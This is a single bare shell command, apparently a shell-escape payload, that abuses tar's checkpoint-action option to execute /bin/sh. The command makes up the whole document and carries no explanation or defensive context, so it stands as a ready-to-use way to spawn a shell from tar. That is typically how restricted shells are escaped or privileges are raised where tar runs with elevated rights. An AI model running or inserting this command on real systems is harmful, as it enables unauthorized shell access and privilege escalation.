tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
